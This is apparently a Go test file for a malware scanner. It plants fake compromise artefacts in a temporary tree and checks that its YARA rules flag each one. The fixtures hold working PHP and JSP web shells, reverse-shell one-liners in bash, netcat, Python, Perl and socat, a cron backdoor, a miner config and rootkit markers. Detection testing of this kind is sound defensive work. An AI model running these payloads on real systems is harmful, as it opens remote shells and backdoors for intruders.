package scan

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"

	"github.com/vmscope/vmscope/internal/fixture"
)

const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

// plantTree builds a guest-like tree with planted artefacts and clean
// files. It returns the root.
func plantTree(t testing.TB) string {
	t.Helper()
	root := t.TempDir()
	elf := func(s string) string { return "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 56) + s }
	files := map[string]string{
		"/eicar.com":                        eicar,
		"/var/www/html/shell.php":           "<?php @eval(base64_decode($_POST['x'])); ?>\n",
		"/var/www/html/cmd.php":             "<html><?php system($_GET['cmd']); ?></html>\n",
		"/var/www/html/a.php":               "<?php\n  assert($_REQUEST[\"a\"]);\n",
		"/var/www/html/index.php":           "<?php echo htmlspecialchars($_GET['q']); eval('1+1;');\n",
		"/opt/tomcat/webapps/ROOT/x.jsp":    "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n",
		"/etc/cron.d/backup":                "SHELL=/bin/sh\n*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/10.11.12.13/4444 0>&1'\n",
		"/etc/cron.d/logrotate":             "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
		"/tmp/.nc.sh":                       "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n",
		"/tmp/.f.sh":                        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n",
		"/tmp/.x.py":                        `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")'` + "\n",
		"/tmp/.p.pl":                        `perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'` + "\n",
		"/tmp/.s.sh":                        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444\n",
		"/opt/.cache/config.json":           "{\n  \"donate-level\": 1,\n  \"pools\": [\n    {\"url\": \"stratum+tcp://pool.example.org:3333\", \"user\": \"44abc\"}\n  ]\n}\n",
		"/etc/ld.so.preload":                "/usr/local/lib/libhide.so\n",
		"/root/.ssh/authorized_keys":        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestingOnly0000000000000000000 attacker@x\n",
		"/home/bob/.ssh/authorized_keys":    "command=\"/tmp/.x\",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestingOnly0000000000000000000 bob\n",
		"/home/alice/.ssh/authorized_keys":  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestingOnly0000000000000000001 alice\n",
		"/home/debian/.ssh/authorized_keys": "no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command=\"echo 'Please login as the user \\\"debian\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ debian\n",
		"/usr/lib/libselinux.so":            elf("jynx"),
		"/lib/modules/6.1.0/extra/dm.ko":    elf("hacked_getdents\x00hacked_kill\x00give_root\x00is_invisible\x00"),
		"/usr/local/bin/xmrig":              elf("XMRig/6.21 stratum+tcp:// "),
		"/etc/passwd":                       "root:x:0:0:root:/root:/bin/bash\n",
		"/etc/hosts":                        "127.0.0.1 localhost\n",
		"/usr/share/doc/bash/README":        "Bash can open /dev/tcp/host/port for network redirections.\n",
		"/empty":                            "",
	}
	for p, c := range files {
		write(t, root, p, []byte(c))
	}
	// A big file: EICAR straddling the first 4 MiB block boundary, and at
	// the very end.
	big := bytes.Repeat([]byte("lorem ipsum dolor sit amet "), (10<<20)/27)
	copy(big[DefaultBlockSize-30:], eicar)
	copy(big[len(big)-len(eicar):], eicar)
	write(t, root, "/var/backups/big.bin", big)
	// A sparse file (holes read as zeros) with EICAR at its end.
	f, err := os.Create(filepath.Join(root, "sparse.img"))
	if err != nil {
		t.Fatal(err)
	}
	tail := []byte(eicar)
	if _, err := f.WriteAt(tail, 20<<20-int64(len(tail))); err != nil {
		t.Fatal(err)
	}
	f.Close()
	return root
}

func write(t testing.TB, root, p string, b []byte) {
	t.Helper()
	fp := filepath.Join(root, filepath.FromSlash(p))
	if err := os.MkdirAll(filepath.Dir(fp), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(fp, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func needYara(t *testing.T) string {
	return fixture.Tool(t, "yara") // scripts/deps.sh installs it: CI must not skip
}

// externalsFor gives the -d arguments for one guest file, as Scan sets them.
func externalsFor(f File, head []byte) []string {
	owner := f.Owner
	if owner == "" {
		owner = strconv.FormatUint(uint64(f.Uid), 10)
	}
	kv := map[string]string{
		"filename": path.Base(f.Path), "filepath": f.Path, "extension": extension(f.Path),
		"filetype": fileType(head), "owner": owner, "md5": "",
	}
	var args []string
	for _, k := range externalNames {
		args = append(args, "-d", k+"="+kv[k])
	}
	return args
}

// yaraPairs runs the yara CLI on every file (one run per file, with the
// file's external variables) and returns "guestpath rule" pairs.
func yaraPairs(t *testing.T, yaraBin string, ruleFiles []string, root string, files []File) []string {
	var pairs []string
	for _, f := range files {
		hostPath := filepath.Join(root, filepath.FromSlash(f.Path))
		head := make([]byte, min(f.Size, headLen))
		if _, err := f.Data.ReadAt(head, 0); err != nil {
			t.Fatal(err)
		}
		args := append([]string{"-w", "-N"}, externalsFor(f, head)...)
		args = append(args, ruleFiles...)
		args = append(args, hostPath)
		out, err := exec.Command(yaraBin, args...).CombinedOutput()
		if err != nil {
			t.Fatalf("yara %v: %v\n%s", args, err, out)
		}
		for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
			if fs := strings.Fields(l); len(fs) == 2 {
				pairs = append(pairs, f.Path+" "+fs[0])
			}
		}
	}
	sort.Strings(pairs)
	return pairs
}

func scanPairs(res *Result) []string {
	var pairs []string
	for _, f := range res.Findings {
		pairs = append(pairs, f.Path+" "+f.Rule)
	}
	sort.Strings(pairs)
	return pairs
}

func embeddedRuleFiles(t *testing.T) []string {
	dir := t.TempDir()
	ents, err := defaultRulesFS.ReadDir("rules")
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range ents {
		b, _ := defaultRulesFS.ReadFile("rules/" + e.Name())
		p := filepath.Join(dir, e.Name())
		if err := os.WriteFile(p, b, 0o644); err != nil {
			t.Fatal(err)
		}
		out = append(out, p)
	}
	return out
}

func TestDefaultRulesAgainstYaraCLI(t *testing.T) {
	yaraBin := needYara(t)
	root := plantTree(t)
	files := hostFiles(t, root, false)
	r, err := DefaultRules()
	if err != nil {
		t.Fatal(err)
	}
	res := scanFiles(t, r, files, WithHash(true))
	if len(res.Errors) != 0 {
		t.Fatalf("errors %v", res.Errors)
	}
	got := scanPairs(res)
	want := yaraPairs(t, yaraBin, embeddedRuleFiles(t), root, files)
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("scan:\n%s\nyara:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// Every planted artefact is caught by the rule meant for it.
	expect := []string{
		"/eicar.com EICAR_Test_File",
		"/var/backups/big.bin EICAR_Test_File",
		"/var/www/html/shell.php WebShell_PHP_Eval_Request",
		"/var/www/html/cmd.php WebShell_PHP_Exec_Request",
		"/var/www/html/a.php WebShell_PHP_Eval_Request",
		"/opt/tomcat/webapps/ROOT/x.jsp WebShell_JSP_Runtime_Exec_Request",
		"/etc/cron.d/backup ReverseShell_Bash_DevTcp",
		"/tmp/.nc.sh ReverseShell_Netcat_Exec",
		"/tmp/.f.sh ReverseShell_Netcat_Exec",
		"/tmp/.x.py ReverseShell_Python_Socket_Pty",
		"/tmp/.p.pl ReverseShell_Perl_Socket_Exec",
		"/tmp/.s.sh ReverseShell_Socat_Exec",
		"/opt/.cache/config.json Miner_XMRig_Config",
		"/usr/local/bin/xmrig Miner_Binary_Strings",
		"/usr/local/bin/xmrig Miner_Known_File_Name",
		"/etc/ld.so.preload LdSoPreload_Library",
		"/root/.ssh/authorized_keys SSH_AuthorizedKeys_Root",
		"/home/bob/.ssh/authorized_keys SSH_AuthorizedKeys_Forced_Command",
		"/usr/lib/libselinux.so Rootkit_Jynx2",
		"/lib/modules/6.1.0/extra/dm.ko Rootkit_Diamorphine",
		"/sparse.img EICAR_Test_File",
	}
	sort.Strings(expect)
	if strings.Join(got, "\n") != strings.Join(expect, "\n") {
		t.Errorf("scan:\n%s\nexpected:\n%s", strings.Join(got, "\n"), strings.Join(expect, "\n"))
	}
	for _, f := range res.Findings {
		if len(f.SHA256) != 64 {
			t.Errorf("%s: no sha256", f.Path)
		}
	}
	// String offsets agree with yara -s for the multi-block files.
	for _, p := range []string{"/var/backups/big.bin", "/sparse.img"} {
		compareOffsets(t, yaraBin, embeddedRuleFiles(t), root, p, "", res)
	}
}

// compareOffsets checks the string matches of guest (rules of namespace
// ns, or all if "") against yara -s.
func compareOffsets(t *testing.T, yaraBin string, ruleFiles []string, root, guest, ns string, res *Result) {
	t.Helper()
	args := append([]string{"-w", "-s", "-N"}, externalsFor(File{Path: guest}, nil)...)
	args = append(args, ruleFiles...)
	args = append(args, filepath.Join(root, guest))
	out, err := exec.Command(yaraBin, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("yara -s: %v\n%s", err, out)
	}
	var want []string
	for _, l := range strings.Split(string(out), "\n") {
		if strings.HasPrefix(l, "0x") {
			parts := strings.SplitN(l, ":", 3)
			off, _ := strconv.ParseInt(parts[0][2:], 16, 64)
			want = append(want, fmt.Sprintf("%d%s", off, parts[1]))
		}
	}
	var got []string
	for _, f := range res.Findings {
		if f.Path == guest && (ns == "" || f.Namespace == ns) {
			for _, s := range f.Strings {
				got = append(got, fmt.Sprintf("%d%s", s.Offset, s.ID))
			}
		}
	}
	sort.Strings(want)
	sort.Strings(got)
	if len(want) == 0 || strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("%s offsets: scan %v, yara -s %v", guest, got, want)
	}
}

func TestCustomRulesDirAgainstYaraCLI(t *testing.T) {
	yaraBin := needYara(t)
	root := plantTree(t)
	files := hostFiles(t, root, false)
	rdir := t.TempDir()
	write(t, rdir, "/net/tcp.yar", []byte(`
rule dev_tcp { strings: $a = "/dev/tcp/" condition: $a }
rule hex_and_regex {
  strings:
    $h = { 45 49 43 41 52 2D [0-16] 41 4E 54 49 }
    $r = /ANTI[A-Z]{5}-TEST/
  condition: #h >= 1 and $r
}`))
	write(t, rdir, "/misc.yara", []byte(`
rule elf_small { condition: uint32(0) == 0x464c457f and filesize < 1KB }
rule big_file { condition: filesize > 5MB }
rule many_lorem { strings: $l = "lorem" condition: #l > 300000 }
rule empty_file { condition: filesize == 0 }
rule tail_zero { condition: filesize > 1MB and uint8(filesize - 1000) == 0 }
`))
	write(t, rdir, "/README.txt", []byte("not a rule file"))
	r, err := LoadRules(rdir)
	if err != nil {
		t.Fatal(err)
	}
	if got := fmt.Sprint(r.Sources()); !strings.Contains(got, "misc.yara} {") || !strings.Contains(got, " net/tcp.yar}") {
		t.Errorf("sources %s", got)
	}
	res := scanFiles(t, r, files, WithJobs(3))
	got := scanPairs(res)
	want := yaraPairs(t, yaraBin, []string{filepath.Join(rdir, "misc.yara"), filepath.Join(rdir, "net/tcp.yar")}, root, files)
	if strings.Join(got, "\n") != strings.Join(want, "\n") || len(got) < 8 {
		t.Errorf("scan:\n%s\nyara:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	compareOffsets(t, yaraBin, []string{filepath.Join(rdir, "net/tcp.yar")}, root, "/var/backups/big.bin", "net/tcp.yar", res)
}
